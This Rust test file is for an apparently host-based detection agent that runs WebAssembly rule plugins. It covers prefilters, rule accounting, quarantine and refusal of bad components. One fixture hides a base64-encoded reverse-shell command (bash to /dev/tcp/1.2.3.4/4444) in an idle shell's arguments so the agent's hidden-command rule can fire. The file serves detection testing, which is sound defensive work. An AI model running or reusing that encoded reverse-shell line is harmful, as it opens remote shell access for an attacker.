//! Packs whose rules are components: judged behind their prefilters, accounted for, and refused
//! alone.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};

use daemoneye_bus::control::{RuleState, RuleStatus};
use daemoneye_bus::event::{Batch, Event, Field, FieldType, Kind};
use daemoneye_host::catalog::{Catalog, Languages};
use daemoneye_host::judge::{self, Judge, Patience};
use daemoneye_host::plugin::{ReleaseError, Sandbox};
use daemoneye_host::sight::Sight;
use daemoneye_pack_format::Trust;
use daemoneye_tests::{Agent, Home, cache, component, plugins, program, workspace};
use tempfile::TempDir;

/// The three rules of `tests/misbehaver/packed`, with or without a prefilter.
const PACKED: [&str; 3] = ["packed-obey", "packed-poison", "packed-endless"];

/// A pack in a folder of its own.
struct Packed {
    folder: TempDir,
}

impl Packed {
    fn new(id: &str, component: &[u8]) -> Self {
        let packed = Packed { folder: tempfile::tempdir().expect("a folder") };
        let about = format!(
            "id = {id:?}\nrelease = 1\ntitle = \"T\"\ndescription = \"D\"\nauthors = []\napi = \"0.1\"\n"
        );
        packed.write("pack.toml", about);
        packed.write("plugins/p.wasm", component);
        packed
    }

    /// With a rule file for each id and more lines in each.
    fn with_rules(self, ids: &[&str], more: &str) -> Self {
        for id in ids {
            let rule = format!(
                "id = {id:?}\ntitle = \"T\"\nseverity = \"low\"\ntechniques = []\nwhy = \"W\"\n\
                 false_positives = []\ncomponent = \"plugins/p.wasm\"\n{more}\n\
                 [[tests]]\nname = \"f\"\nexpect = \"fire\"\nevent = {{ command_line = \"x\" }}\n\
                 [[tests]]\nname = \"s\"\nexpect = \"silent\"\nevent = {{ pid = 1 }}\n"
            );
            self.write(&format!("rules/{id}.toml"), rule);
        }
        self
    }

    fn write(&self, name: &str, bytes: impl AsRef<[u8]>) {
        let file = self.folder.path().join(name);
        fs::create_dir_all(file.parent().expect("a folder")).expect("a folder");
        fs::write(file, bytes).expect("written");
    }

    fn path(&self) -> &Path {
        self.folder.path()
    }
}

/// A judge of these packs, and why any of them is refused.
fn judge_of(packs: &[&Path]) -> (Judge, Vec<String>) {
    let sandbox = Sandbox::new(Some(&cache())).expect("a sandbox");
    let mut languages = Languages::load(&sandbox, &plugins(), Sight::Recorded, Some(&cache()))
        .expect("the languages");
    let mut catalog = Catalog::default();
    let mut add = |pack: &&Path| catalog.add(pack, &Trust::AllowUnsigned, &sandbox, &mut languages);
    let refused = packs.iter().filter_map(|pack| add(pack).err()).map(|e| e.to_string()).collect();
    let engine = judge::engine(&sandbox, &plugins()).expect("the engine");
    let (judge, withdrawn) = Judge::load(&engine, &mut catalog).expect("a judge");
    assert!(withdrawn.is_empty(), "{withdrawn:?}");
    (judge, refused)
}

fn batch(command_lines: &[&str]) -> Batch {
    let event = |line: &&str| Event::new(Kind::Exec, 1).with(Field::CommandLine, *line);
    Batch::from_events(&command_lines.iter().map(event).collect::<Vec<_>>()).expect("events")
}

fn status(judge: &Judge, rule: &str) -> RuleStatus {
    let found = judge.report().into_iter().find(|status| status.id == rule);
    found.unwrap_or_else(|| panic!("no rule {rule}"))
}

/// Offered, filtered, judged, faulted, shed, matched; nothing is over budget.
fn account(judge: &Judge, rule: &str) -> [u64; 6] {
    let RuleStatus { offered, filtered, judged, over_budget, faulted, shed, matched, .. } =
        status(judge, rule);
    assert_eq!(offered, filtered + judged + faulted + shed, "{rule}");
    assert_eq!(over_budget, 0, "{rule}");
    [offered, filtered, judged, faulted, shed, matched]
}

fn rows(judge: &mut Judge, batch: &Batch, rule: &str) -> Vec<usize> {
    let (found, _) = judge.judge(batch);
    found.iter().filter(|found| found.rule.id == rule).map(|found| found.row).collect()
}

#[test]
fn a_component_sees_what_its_prefilter_matched_and_answers_for_the_rows_of_the_batch() {
    let prefilter = "prefilter = \"SELECT pid FROM process_starts WHERE command_line LIKE '%y%'\"";
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, prefilter);
    let (mut judge, refused) = judge_of(&[pack.path()]);
    assert!(refused.is_empty(), "{refused:?}");
    let batch = batch(&["x", "y", "x", "yy", "z"]);
    assert_eq!(rows(&mut judge, &batch, "packed-obey"), [1, 3]);
    assert_eq!(account(&judge, "packed-obey"), [5, 3, 2, 0, 0, 2]);
    assert_eq!(account(&judge, "packed-poison"), [5, 3, 2, 0, 0, 0]);
}

#[test]
fn a_prefilter_that_looks_beyond_its_event_costs_its_pack_when_that_is_loaded() {
    let each = "SELECT pid FROM process_starts AS s";
    let table = [
        "-- window: 60 s\nSELECT count(*) AS n FROM process_starts GROUP BY pid HAVING count(*) > 1",
        "SELECT s.pid FROM process_starts s JOIN processes p ON p.key = s.parent_key",
    ];
    let pack = |prefilter: &str| {
        let more = format!("prefilter = {prefilter:?}");
        Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, &more)
    };
    assert_eq!(judge_of(&[pack(each).path()]).1, Vec::<String>::new());
    for prefilter in table {
        let (_, refused) = judge_of(&[pack(prefilter).path()]);
        let [why] = &refused[..] else { panic!("{prefilter}: {refused:?}") };
        assert!(why.starts_with("pack p: rule packed-endless: "), "{why}");
        assert!(why.contains("a prefilter looks at one event at a time: keep its WHERE"), "{why}");
    }
}

#[test]
fn without_a_prefilter_a_component_sees_every_row() {
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
    let (mut judge, _) = judge_of(&[pack.path()]);
    assert_eq!(rows(&mut judge, &batch(&["x", "y"]), "packed-obey"), [0, 1]);
    assert_eq!(account(&judge, "packed-obey"), [2, 0, 2, 0, 0, 2]);
}

#[test]
fn a_fault_in_one_plugin_costs_no_other_a_row_and_its_own_rules_one() {
    let bad = Packed::new("bad", &component("test/packed.wasm")).with_rules(&PACKED, "");
    let example = example_pack();
    let (mut judge, refused) = judge_of(&[bad.path(), example.path()]);
    assert!(refused.is_empty(), "{refused:?}");
    let mut lines = vec!["[kworker/0:1]"; 100];
    lines[42] = "poison";
    let event = |line: &&str| {
        let event = Event::new(Kind::Exec, 1).with(Field::CommandLine, *line);
        event.with(Field::ExecutablePath, "/tmp/x")
    };
    let events: Vec<Event> = lines.iter().map(event).collect();
    let (found, unjudged) = judge.judge(&Batch::from_events(&events).expect("events"));
    let mut faults: Vec<_> = unjudged
        .iter()
        .map(|failed| (failed.rule.as_deref().unwrap_or("?"), &*failed.rows))
        .collect();
    faults.sort_unstable();
    assert_eq!(faults, [("packed-endless", &[42][..]), ("packed-poison", &[42])]);
    assert_eq!(account(&judge, "packed-poison"), [100, 0, 99, 1, 0, 0]);
    assert_eq!(account(&judge, "packed-endless"), [100, 0, 99, 1, 0, 0]);
    assert_eq!(account(&judge, "packed-obey"), [100, 0, 100, 0, 0, 100]);
    let threads = account(&judge, "example-false-kernel-thread");
    assert_eq!(threads, [100, 0, 100, 0, 0, 99]);
    assert_eq!(found.len(), 199);
}

/// Five faults, and the 0 + 1 + 2 + 4 batches between them that a failing rule sits out.
const BATCHES_TO_QUARANTINE: usize = 12;

/// With the two rules in quarantine that fail on poison.
fn poisoned(pack: &Packed) -> Judge {
    let (mut judge, refused) = judge_of(&[pack.path()]);
    assert!(refused.is_empty(), "{refused:?}");
    for _ in 0..BATCHES_TO_QUARANTINE {
        judge.judge(&batch(&["poison"]));
    }
    judge
}

#[test]
fn a_rule_that_fails_sits_out_longer_and_longer_and_is_blind_after_five_faults() {
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
    let mut judge = poisoned(&pack);
    judge.judge(&batch(&["x", "y"]));
    let blind: Vec<String> = judge.blind().iter().map(ToString::to_string).collect();
    assert_eq!(blind, ["rule packed-poison", "rule packed-endless"]);
    for rule in ["packed-endless", "packed-poison"] {
        assert_eq!(status(&judge, rule).state, RuleState::Quarantined);
        assert_eq!(account(&judge, rule), [14, 0, 0, 5, 9, 0]);
    }
    assert_eq!(account(&judge, "packed-obey"), [14, 0, 14, 0, 0, 14]);
    let detail = judge.detail("packed-poison").expect("a rule");
    assert_eq!(detail.trouble.map(|trouble| trouble.since), Some(1));
    assert_eq!(detail.state_lost, Some(1));
    assert!(judge.restarts().count >= 5, "{:?}", judge.restarts());
}

#[test]
fn behind_a_prefilter_only_what_it_matched_is_shed() {
    let prefilter = "prefilter = \"SELECT pid FROM process_starts WHERE command_line LIKE '%o%'\"";
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, prefilter);
    let mut judge = poisoned(&pack);
    judge.judge(&batch(&["x", "o", "y"]));
    assert_eq!(account(&judge, "packed-poison"), [15, 2, 0, 5, 8, 0]);
    assert_eq!(judge.blind().iter().map(|blind| blind.trouble.since).collect::<Vec<_>>(), [1, 1]);
    assert_eq!(account(&judge, "packed-obey"), [15, 2, 13, 0, 0, 13]);
}

#[test]
fn a_released_rule_of_a_component_judges_again_and_its_neighbour_stays_where_it_is() {
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
    let mut judge = poisoned(&pack);
    let unknown = ReleaseError::UnknownRule("x".to_owned());
    assert_eq!(judge.release("x"), Err(unknown));
    let well = ReleaseError::NotInQuarantine("packed-obey".to_owned());
    assert_eq!(judge.release("packed-obey"), Err(well));
    assert_eq!(judge.release("packed-poison"), Ok(()));
    judge.judge(&batch(&["x"]));
    assert_eq!(account(&judge, "packed-poison"), [13, 0, 1, 5, 7, 0]);
    assert_eq!(account(&judge, "packed-endless"), [13, 0, 0, 5, 8, 0]);
}

#[test]
fn the_same_component_in_a_new_judge_keeps_its_accounts() {
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, "");
    let (mut before, _) = judge_of(&[pack.path()]);
    before.judge(&batch(&["x", "poison"]));
    let (mut after, _) = judge_of(&[pack.path()]);
    assert!(after.inherit(&mut before).is_empty());
    assert_eq!(account(&after, "packed-poison"), [2, 0, 1, 1, 0, 0]);
    after.judge(&batch(&["x"]));
    assert_eq!(account(&after, "packed-poison"), [3, 0, 2, 1, 0, 0]);
}

#[test]
fn a_budget_of_the_pack_bounds_the_fuel_of_an_event() {
    let enough = "[budget]\nfuel_per_event = 1_000_000";
    let little = "[budget]\nfuel_per_event = 10";
    for (budget, faulted) in [(enough, 0), (little, 1)] {
        let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, budget);
        let (mut judge, _) = judge_of(&[pack.path()]);
        judge.judge(&batch(&["x"]));
        assert_eq!(account(&judge, "packed-obey")[3], faulted, "{budget}");
    }
}

/// A component that exports the rules of another version.
fn of_version(version: &str) -> Vec<u8> {
    let (own, other) =
        (b"daemoneye:plugin/rules@0.1.1", format!("daemoneye:plugin/rules@{version}"));
    assert_eq!(own.len(), other.len(), "only the digits change");
    let mut bytes = component("test/packed.wasm");
    for at in 0..bytes.len() - own.len() {
        if bytes[at..].starts_with(own) {
            bytes[at..at + own.len()].copy_from_slice(other.as_bytes());
        }
    }
    bytes
}

#[test]
fn a_component_that_is_refused_costs_its_pack_and_says_why() {
    let own = || component("test/packed.wasm");
    let tiny = "[budget]\nmemory = 4096";
    let sentence = "built for version 0.2.0 of the plugin interface, and this agent speaks 0.1";
    let table: [(Vec<u8>, &[&str], &str, &str); 7] = [
        (own(), &PACKED[..2], "", "has the rules packed-endless, packed-obey, packed-poison"),
        (own(), &[PACKED[0], PACKED[1], PACKED[2], "more"], "", "name it are more, packed-endless"),
        (component("stdout.wasm"), &PACKED, "", "imports \"daemoneye:plugin/identity@0.1.1\""),
        (component("sql.wasm"), &PACKED, "", "not of the world rule-plugin"),
        (of_version("0.2.0"), &PACKED, "", sentence),
        (of_version("0.0.1"), &PACKED, "", "build it again with this agent's SDK"),
        (own(), &PACKED, tiny, "out of memory: asked for"),
    ];
    let example = example_pack();
    for (bytes, ids, more, expected) in table {
        let pack = Packed::new("refused", &bytes).with_rules(ids, more);
        let (mut judge, refused) = judge_of(&[pack.path(), example.path()]);
        let [why] = &refused[..] else { panic!("{expected}: {refused:?}") };
        assert!(why.starts_with("pack refused: plugin refused/plugins/p.wasm: "), "{why}");
        assert!(why.contains(expected), "{why}");
        judge.judge(&batch(&["x"]));
        assert_eq!(account(&judge, "example-false-kernel-thread")[0], 1);
    }
}

#[test]
fn what_is_no_component_is_refused_before_anything_runs() {
    let module = b"\0asm\x01\0\0\0".to_vec();
    let table = [
        (b"\0asm garbage".to_vec(), "no component: "),
        (module, "a core module is no component"),
        (vec![0xff; 64], "no component: "),
    ];
    for (bytes, expected) in table {
        let pack = Packed::new("refused", &bytes).with_rules(&PACKED, "");
        let (_, refused) = judge_of(&[pack.path()]);
        let [why] = &refused[..] else { panic!("{expected}: {refused:?}") };
        assert!(why.contains("plugins/p.wasm: ") && why.contains(expected), "{why}");
    }
}

/// The packed component with the first letter of a text in it changed to a byte that no text has.
fn garbled(text: &[u8]) -> Vec<u8> {
    let mut bytes = component("test/packed.wasm");
    let at = bytes.windows(text.len()).position(|part| part == text).expect("the text is there");
    bytes[at] = 0xFF;
    bytes
}

#[test]
fn a_component_whose_texts_are_none_is_refused_or_faults_and_hurts_nobody() {
    let pack = Packed::new("refused", &garbled(b"packed-endless")).with_rules(&PACKED, "");
    let (_, refused) = judge_of(&[pack.path()]);
    let [why] = &refused[..] else { panic!("{refused:?}") };
    assert!(why.contains("answered with text that is not UTF-8 after 0 bytes"), "{why}");

    let pack = Packed::new("garbled", &garbled(b"has a command line")).with_rules(&PACKED, "");
    let (mut judge, refused) = judge_of(&[pack.path()]);
    assert!(refused.is_empty(), "{refused:?}");
    let (found, unjudged) = judge.judge(&batch(&["x", "y"]));
    assert!(found.is_empty(), "{found:?}");
    assert!(unjudged[0].why.to_string().contains("not UTF-8"), "{unjudged:?}");
    assert_eq!(account(&judge, "packed-obey"), [2, 0, 0, 2, 0, 0]);
    assert_eq!(account(&judge, "packed-poison"), [2, 0, 2, 0, 0, 0]);
}

#[test]
fn a_component_of_100_mib_is_refused_by_its_size_before_it_is_read() {
    let pack = Packed::new("refused", b"").with_rules(&PACKED, "");
    let file = fs::File::create(pack.path().join("plugins/p.wasm")).expect("a file");
    file.set_len(100 << 20).expect("a sparse file");
    let (_, refused) = judge_of(&[pack.path()]);
    let [why] = &refused[..] else { panic!("{refused:?}") };
    assert!(why.contains("plugins/p.wasm: ") && why.contains("33554432"), "{why}");
}

#[test]
fn what_a_rule_says_of_an_event_alone_does_not_depend_on_what_came_before() {
    let prefilter = "prefilter = \"SELECT pid FROM process_starts WHERE command_line LIKE '%y%'\"";
    let pack = Packed::new("p", &component("test/packed.wasm")).with_rules(&PACKED, prefilter);
    let (mut judge, _) = judge_of(&[pack.path()]);
    let event = Event::new(Kind::Exec, 1).with(Field::CommandLine, "yes");
    let witness = |judge: &Judge, rule| judge.witness(rule, &event, Patience::LONG);
    let before = witness(&judge, "packed-obey").expect("a verdict");
    judge.judge(&batch(&["x", "y", "poison y", "yy"]));
    let accounts = judge.report();
    assert_eq!(witness(&judge, "packed-obey").expect("a verdict"), before);
    assert_eq!(judge.report(), accounts, "it is in nobody's account");
    assert!(before.matched && before.fuel > 0 && before.release == Some(1), "{before:?}");
    let other = witness(&judge, "packed-poison").expect("a verdict");
    assert!(!other.matched && other.engine == before.engine, "{other:?}");
    assert!(witness(&judge, "unknown").is_err());
}

/// The example's pack with its component.
fn example_pack() -> Packed {
    let pack = Packed { folder: tempfile::tempdir().expect("a folder") };
    let example = workspace().join("plugins/example/pack");
    pack.write("pack.toml", fs::read(example.join("pack.toml")).expect("a file"));
    for rule in example.join("rules").read_dir().expect("a folder") {
        let rule = rule.expect("an entry");
        let name = format!("rules/{}", rule.file_name().to_string_lossy());
        pack.write(&name, fs::read(rule.path()).expect("a file"));
    }
    pack.write("plugins/example.wasm", component("test/example.wasm"));
    pack
}

#[test]
fn the_example_keeps_the_tests_that_it_brings() {
    let pack = example_pack();
    let mut command = Command::new(program("daemoneye-agent"));
    command.args(["--log-level", "error", "test", "--allow-unsigned", "--pack"]).arg(pack.path());
    command.arg("--plugins").arg(plugins()).arg("--cache").arg(cache());
    let benign = workspace().join("tests/data/benign.jsonl");
    let output = command.arg("--benign").arg(benign).output().expect("the agent starts");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success(), "{said}{}", String::from_utf8_lossy(&output.stderr));
    assert!(said.contains("example: 2 rules, 6 of 6 tests hold"), "{said}");
}

/// A process whose command line hides a connection; it only waits. Killed when it is dropped.
struct Hiding(Child);

impl Hiding {
    fn start() -> Self {
        let hidden = "YmFzaCAtaSA+JiAvZGV2L3RjcC8xLjIuMy40LzQ0NDQ=";
        let mut shell = Command::new("/bin/sh");
        // It stays what it is: whoever reads its arguments late reads the same.
        shell.args(["-c", "read never", "base64", hidden]);
        Hiding(shell.stdin(Stdio::piped()).stdout(Stdio::null()).spawn().expect("sh starts"))
    }
}

impl Drop for Hiding {
    fn drop(&mut self) {
        if self.0.kill().is_ok() {
            let _reaped = self.0.wait();
        }
    }
}

#[test]
fn a_component_from_a_signed_pack_fires_on_a_live_process() {
    let home = Home::new();
    let pack: PathBuf = home.path("packs/example");
    copy(example_pack().path(), &pack);
    home.sign(&pack);
    let agent = Agent::start(&home);
    let hiding = Hiding::start();
    let pid = hiding.0.id();
    let alert = agent.wait_for_alert("a hidden command", |alert| {
        alert["rule"] == "example-hidden-command" && alert["event"]["pid"] == pid
    });
    let evidence = alert["evidence"].to_string();
    assert!(evidence.contains("/dev/tcp/1.2.3.4/4444"), "{evidence}");
    let rules = agent.ask(&["rules"]);
    let of_pack = rules.as_array().into_iter().flatten().filter(|rule| rule["pack"] == "example");
    for rule in of_pack {
        let count = |key: &str| rule[key].as_u64().expect("a count");
        let parts = ["filtered", "judged", "over_budget", "faulted", "shed"].map(count);
        assert_eq!(count("offered"), parts.iter().sum::<u64>(), "{rule:#}");
    }
}

fn copy(from: &Path, to: &Path) {
    fs::create_dir_all(to).expect("a folder");
    for entry in from.read_dir().expect("a folder") {
        let entry = entry.expect("an entry");
        let target = to.join(entry.file_name());
        if entry.path().is_dir() {
            copy(&entry.path(), &target);
        } else {
            fs::copy(entry.path(), target).expect("a copy");
        }
    }
}

/// The SDK for guests must not depend on the agent, so the two lists are compared here.
#[test]
fn the_sdk_knows_every_field_of_events_and_its_type() {
    let name = |field: &Field| match field.field_type() {
        FieldType::Integer => (field.name(), "integer"),
        FieldType::Float => (field.name(), "float"),
        FieldType::Text => (field.name(), "text"),
    };
    let known: Vec<_> = Field::ALL.iter().map(name).collect();
    assert_eq!(daemoneye_sdk::rule::field::ALL, known);
}
